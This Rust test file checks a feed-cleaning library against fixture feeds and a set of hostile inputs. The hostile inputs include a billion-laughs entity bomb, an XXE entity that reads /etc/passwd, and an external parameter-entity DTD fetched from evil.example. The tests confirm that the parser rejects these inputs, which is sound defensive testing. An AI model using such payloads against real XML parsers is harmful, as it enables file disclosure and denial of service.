//! Whole feed documents: every directory under `tests/fixtures/feed-documents/` is one test.
//!
//! - `input.xml` or `input.json`: the feed document as bytes (decoded by the BOM / XML
//!   declaration, as the CLI and `cleanFeed(Uint8Array)` do).
//! - `options.json` (optional): `CleanOptions`.
//! - `expected.json`: the whole `clean_feed` output, pretty-printed and reviewed;
//!   `UPDATE_EXPECT=1 cargo test --test feeds` rewrites it (review the diff).
//! - `checks.json`: hand-written facts that `UPDATE_EXPECT` never rewrites:
//!   `{"format", "items" (count), "title", "siteName", "generator", "lang",
//!     "item": [{"index", "title", "url", "link", "published", "source", "feed", "lang",
//!               "authors", "categories", "enclosures" (count), "textHas", "textLacks",
//!               "fired", "notFired"}]}` — unknown keys are an error.
//!
//! Then the hostile inputs, each a named test: a typed error, fast, never a panic.

use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use article_cleaner::{clean_feed, clean_feed_to_json, decode_feed_bytes, Options};
use libtest_mimic::{Arguments, Failed, Trial};
use serde_json::Value;

fn docs_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/feed-documents")
}

fn input_of(dir: &Path) -> Option<PathBuf> {
    ["input.xml", "input.json"]
        .iter()
        .map(|n| dir.join(n))
        .find(|p| p.is_file())
}

fn run_doc(dir: &Path) -> Result<(), Failed> {
    let input = input_of(dir).ok_or("no input.xml / input.json")?;
    let bytes = std::fs::read(&input).map_err(|e| format!("cannot read input: {e}"))?;
    let text = decode_feed_bytes(&bytes).map_err(|e| format!("decode: {e}"))?;
    let options = match std::fs::read_to_string(dir.join("options.json")) {
        Ok(t) => Options::from_json_str(&t).map_err(|e| format!("options.json: {e}"))?,
        Err(_) => Options::default(),
    };
    let mut pretty =
        clean_feed_to_json(&text, &options, true).map_err(|e| format!("clean_feed: {e}"))?;
    pretty.push('\n');
    let got: Value = serde_json::from_str(&pretty).map_err(|e| e.to_string())?;
    let expected_path = dir.join("expected.json");
    if std::env::var_os("UPDATE_EXPECT").is_some() {
        std::fs::write(&expected_path, &pretty).map_err(|e| e.to_string())?;
    } else {
        let expected = std::fs::read_to_string(&expected_path)
            .map_err(|e| format!("no expected.json ({e}); run with UPDATE_EXPECT=1"))?;
        if expected != pretty {
            let want: Value = serde_json::from_str(&expected).map_err(|e| e.to_string())?;
            return Err(format!(
                "output differs from expected.json at {}",
                first_diff(&want, &got, String::new())
            )
            .into());
        }
    }
    let checks_text = std::fs::read_to_string(dir.join("checks.json"))
        .map_err(|e| format!("every feed document needs a checks.json: {e}"))?;
    let checks: Value = serde_json::from_str(&checks_text).map_err(|e| e.to_string())?;
    check(&checks, &got)
}

fn first_diff(want: &Value, got: &Value, path: String) -> String {
    match (want, got) {
        (Value::Object(a), Value::Object(b)) => {
            for (k, v) in a {
                match b.get(k) {
                    Some(w) if w == v => {}
                    Some(w) => return first_diff(v, w, format!("{path}.{k}")),
                    None => return format!("{path}.{k}: missing"),
                }
            }
            format!("{path}: extra keys")
        }
        (Value::Array(a), Value::Array(b)) if a.len() == b.len() => a
            .iter()
            .zip(b)
            .enumerate()
            .find(|(_, (x, y))| x != y)
            .map(|(i, (x, y))| first_diff(x, y, format!("{path}[{i}]")))
            .unwrap_or(path),
        _ => format!("{path}: expected {want}, got {got}"),
    }
}

fn check(checks: &Value, got: &Value) -> Result<(), Failed> {
    let obj = checks.as_object().ok_or("checks.json must be an object")?;
    let feed = &got["feed"];
    let items = got["items"].as_array().ok_or("no items")?;
    for (k, want) in obj {
        match k.as_str() {
            "format" | "title" | "siteName" | "generator" | "lang" => {
                if &feed[k.as_str()] != want {
                    return Err(format!("feed.{k}: want {want}, got {}", feed[k.as_str()]).into());
                }
            }
            "items" => {
                if Some(items.len() as u64) != want.as_u64() {
                    return Err(format!("want {want} items, got {}", items.len()).into());
                }
            }
            "item" => {
                for c in want.as_array().ok_or("item must be an array")? {
                    let i = c["index"].as_u64().ok_or("item check needs index")? as usize;
                    let item = items.get(i).ok_or(format!("no item {i}"))?;
                    check_item(c, item)
                        .map_err(|e| format!("item {i}: {}", e.message().unwrap_or("")))?;
                }
            }
            other => return Err(format!("unknown check key `{other}`").into()),
        }
    }
    Ok(())
}

fn check_item(c: &Value, item: &Value) -> Result<(), Failed> {
    let text = item["textContent"].as_str().unwrap_or("");
    let fired: Vec<&str> = item["removed"]
        .as_array()
        .map(|r| r.iter().filter_map(|x| x["rule"].as_str()).collect())
        .unwrap_or_default();
    for (k, want) in c.as_object().ok_or("item check must be an object")? {
        match k.as_str() {
            "index" => {}
            "title" | "url" | "link" | "published" | "source" | "feed" | "lang" | "authors"
            | "categories" => {
                if &item[k.as_str()] != want {
                    return Err(format!("{k}: want {want}, got {}", item[k.as_str()]).into());
                }
            }
            "enclosures" => {
                let n = item["enclosures"].as_array().map_or(0, Vec::len) as u64;
                if Some(n) != want.as_u64() {
                    return Err(format!("want {want} enclosures, got {n}").into());
                }
            }
            "textHas" | "textLacks" => {
                for s in want
                    .as_array()
                    .ok_or("a list")?
                    .iter()
                    .filter_map(Value::as_str)
                {
                    if text.contains(s) != (k == "textHas") {
                        return Err(format!("{k} {s:?} in {text:?}").into());
                    }
                }
            }
            "fired" | "notFired" => {
                for s in want
                    .as_array()
                    .ok_or("a list")?
                    .iter()
                    .filter_map(Value::as_str)
                {
                    if fired.contains(&s) != (k == "fired") {
                        return Err(format!("{k} {s:?}; fired: {fired:?}").into());
                    }
                }
            }
            other => return Err(format!("unknown item check key `{other}`").into()),
        }
    }
    Ok(())
}

/// A hostile input must give `code` within `limit` (debug build).
fn hostile(input: String, options: Options, code: &'static str) -> Result<(), Failed> {
    let limit = Duration::from_secs(10);
    let started = Instant::now();
    let result = std::panic::catch_unwind(|| clean_feed(&input, &options));
    let took = started.elapsed();
    match result {
        Err(_) => Err("panicked".into()),
        Ok(Ok(_)) => Err(format!("accepted; expected {code}").into()),
        Ok(Err(e)) if e.code() != code => {
            Err(format!("{} ({}), expected {code}", e, e.code()).into())
        }
        Ok(Err(_)) if took > limit => Err(format!("took {took:?}").into()),
        Ok(Err(_)) => Ok(()),
    }
}

fn hostile_trials() -> Vec<Trial> {
    let rss = |items: &str| {
        format!("<?xml version=\"1.0\"?><rss version=\"2.0\"><channel><title>t</title>{items}</channel></rss>")
    };
    let cases: Vec<(&str, String, Options, &str)> = vec![
        (
            "billion-laughs",
            format!(
                "<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\">{}]><rss><channel><title>&lol9;</title></channel></rss>",
                (1..10)
                    .map(|i| format!("<!ENTITY lol{i} \"{}\">", format!("&lol{};", if i == 1 { String::new() } else { (i - 1).to_string() }).repeat(10)))
                    .collect::<String>()
            ),
            Options::default(),
            "INVALID_FEED",
        ),
        (
            "external-entity",
            "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><rss><channel><title>&xxe;</title></channel></rss>".into(),
            Options::default(),
            "INVALID_FEED",
        ),
        (
            "parameter-entity",
            "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % p SYSTEM \"http://evil.example/x.dtd\"> %p;]><feed xmlns=\"http://www.w3.org/2005/Atom\"/>".into(),
            Options::default(),
            "INVALID_FEED",
        ),
        (
            "deep-nesting",
            rss(&format!("<item><description>{}{}</description></item>", "<x>".repeat(100_000), "</x>".repeat(100_000))),
            Options::default(),
            "TOO_DEEP",
        ),
        ("100k-items", rss(&"<item><title>x</title></item>".repeat(100_000)), Options::default(), "TOO_MANY_ITEMS"),
        (
            "100k-json-items",
            format!("{{\"version\":\"https://jsonfeed.org/version/1.1\",\"items\":[{}]}}", vec!["{\"id\":\"1\"}"; 100_000].join(",")),
            Options::default(),
            "TOO_MANY_ITEMS",
        ),
        ("malformed-end-tag", rss("<item><title>x</item>"), Options::default(), "INVALID_FEED"),
        ("truncated", rss("<item><title>x</title></item>").replace("</channel></rss>", ""), Options::default(), "INVALID_FEED"),
        ("malformed-json", "{\"version\":\"https://jsonfeed.org/version/1\",\"items\":[".into(), Options::default(), "INVALID_FEED"),
        ("deep-json", format!("{{\"version\":\"https://jsonfeed.org/version/1\",\"items\":[],\"x\":{}{}}}", "[".repeat(100_000), "]".repeat(100_000)), Options::default(), "INVALID_FEED"),
        ("html-page", "<!DOCTYPE html><html><head><title>x</title></head><body><p>Hi</p></body></html>".into(), Options::default(), "NOT_A_FEED"),
        ("plain-text", "Just some text, no markup.".into(), Options::default(), "NOT_A_FEED"),
        ("other-json", "{\"status\":\"error\",\"message\":\"Cannot download this RSS feed\"}".into(), Options::default(), "NOT_A_FEED"),
        ("other-xml", "<svg xmlns=\"http://www.w3.org/2000/svg\"/>".into(), Options::default(), "NOT_A_FEED"),
        (
            "too-large",
            rss("<item><title>x</title></item>"),
            Options { max_input_bytes: 10, ..Options::default() },
            "INPUT_TOO_LARGE",
        ),
        (
            "max-items",
            rss(&"<item><title>x</title></item>".repeat(3)),
            Options { max_items: 2, ..Options::default() },
            "TOO_MANY_ITEMS",
        ),
    ];
    let mut trials: Vec<Trial> = cases
        .into_iter()
        .map(|(name, input, options, code)| {
            Trial::test(format!("hostile::{name}"), move || {
                hostile(input, options, code)
            })
        })
        .collect();
    trials.push(Trial::test("hostile::unsupported-charset", || {
        let e = decode_feed_bytes(b"<?xml version=\"1.0\" encoding=\"x-unknown-7\"?><rss/>")
            .err()
            .ok_or("accepted an unknown charset")?;
        if e.code() == "UNSUPPORTED_CHARSET" {
            Ok(())
        } else {
            Err(e.to_string().into())
        }
    }));
    trials.push(Trial::test("atom::xml-base-and-text-content", || {
        // Hand-written (RFC 4287 shapes): xml:base on the feed, the entry and the content, each
        // relative to the one around it; type="text" content is plain text (markup shown as
        // text, blank lines separate paragraphs); type="html" titles are read as text.
        let atom = r#"<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xml:base="https://example.org/blog/" xml:lang="en-GB">
  <title type="html">Ex &amp;lt;b&amp;gt;ample&amp;lt;/b&amp;gt;</title>
  <link href="./"/>
  <entry xml:base="2024/">
    <title>Text entry</title><id>urn:1</id><updated>2024-05-01T10:00:00Z</updated>
    <link rel="alternate" href="first-post"/>
    <content type="text">Line one &lt;b&gt;not bold&lt;/b&gt;.

Second paragraph.</content>
  </entry>
  <entry>
    <title>HTML entry</title><id>urn:2</id><updated>2024-05-02T10:00:00Z</updated>
    <link href="second"/>
    <content type="html" xml:base="https://cdn.example.net/media/">&lt;p&gt;See &lt;a href="pic.html"&gt;the picture&lt;/a&gt;.&lt;/p&gt;</content>
  </entry>
</feed>"#;
        let f = clean_feed(atom, &Options::default()).map_err(|e| e.to_string())?;
        let want = |got: Option<&str>, want: &str, what: &str| -> Result<(), Failed> {
            if got == Some(want) {
                Ok(())
            } else {
                Err(format!("{what}: want {want:?}, got {got:?}").into())
            }
        };
        want(f.feed.title.as_deref(), "Ex <b>ample</b>", "feed title (html as text)")?;
        want(f.feed.url.as_deref(), "https://example.org/blog/", "feed link")?;
        want(f.feed.lang.as_deref(), "en-GB", "xml:lang")?;
        let a = &f.items[0];
        want(a.link.as_deref(), "https://example.org/blog/2024/first-post", "entry xml:base")?;
        want(a.article.published.as_deref(), "2024-05-01T10:00:00Z", "updated as date")?;
        want(a.article.lang.as_deref(), "en-GB", "item lang")?;
        want(
            Some(a.article.text_content.as_str()),
            "Line one <b>not bold</b>.\n\nSecond paragraph.",
            "text content",
        )?;
        let b = &f.items[1];
        want(b.link.as_deref(), "https://example.org/blog/second", "link")?;
        let href = b.article.links.first().map(|l| l.href.as_str());
        want(href, "https://cdn.example.net/media/pic.html", "content xml:base")?;
        Ok(())
    }));
    trials.push(Trial::test("hostile::one-item-past-the-depth-limit", || {
        // One item's body nests past `maxDepth`: that item carries the typed error and its
        // text; the feed and its other items are cleaned as usual, quickly.
        let deep = format!("{}deep text{}", "<div>".repeat(20_000), "</div>".repeat(20_000));
        let feed = format!(
            "<?xml version=\"1.0\"?><rss version=\"2.0\"><channel><title>T</title>\
             <item><title>One</title><link>https://e.example/1</link><description><![CDATA[<p>Fine item.</p>]]></description></item>\
             <item><title>Two</title><link>https://e.example/2</link><description><![CDATA[<p>Before the deep part.</p>{deep}]]></description></item>\
             </channel></rss>"
        );
        let started = Instant::now();
        let f = clean_feed(&feed, &Options::default()).map_err(|e| e.to_string())?;
        if started.elapsed() > Duration::from_secs(10) {
            return Err(format!("took {:?}", started.elapsed()).into());
        }
        let (one, two) = match f.items.as_slice() {
            [a, b] => (a, b),
            other => return Err(format!("{} items", other.len()).into()),
        };
        if one.error.is_some() || one.article.text_content != "Fine item." {
            return Err(format!("first item: {:?} {:?}", one.error, one.article.text_content).into());
        }
        let code = two.error.as_ref().map(|e| e.code.as_str());
        if code != Some("TOO_DEEP")
            || two.article.text_content != "Before the deep part.\n\ndeep text"
            || two.article.title.as_deref() != Some("Two")
            || !two.article.removed.iter().any(|r| r.rule == "feed-item-limit")
        {
            return Err(format!("second item: {code:?} {:?}", two.article.text_content).into());
        }
        Ok(())
    }));
    trials.push(Trial::test("hostile::undeclared-entity-is-text", || {
        // An undeclared entity in a sloppy feed is read as HTML's named reference, never an
        // error nor an expansion.
        let f = clean_feed(
            "<rss><channel><title>A&nbsp;B &bogus;</title></channel></rss>",
            &Options::default(),
        )
        .map_err(|e| e.to_string())?;
        match f.feed.title.as_deref() {
            Some("A\u{a0}B &bogus;") => Ok(()),
            other => Err(format!("title {other:?}").into()),
        }
    }));
    trials
}

fn main() {
    let args = Arguments::from_args();
    let mut dirs: Vec<PathBuf> = std::fs::read_dir(docs_dir())
        .map(|rd| {
            rd.filter_map(|e| e.ok())
                .map(|e| e.path())
                .filter(|p| input_of(p).is_some())
                .collect()
        })
        .unwrap_or_default();
    dirs.sort();
    let mut trials: Vec<Trial> = dirs
        .into_iter()
        .map(|d| {
            let name = d
                .file_name()
                .map(|n| n.to_string_lossy().into_owned())
                .unwrap_or_default();
            Trial::test(format!("doc::{name}"), move || run_doc(&d))
        })
        .collect();
    trials.extend(hostile_trials());
    libtest_mimic::run(&args, trials).exit();
}
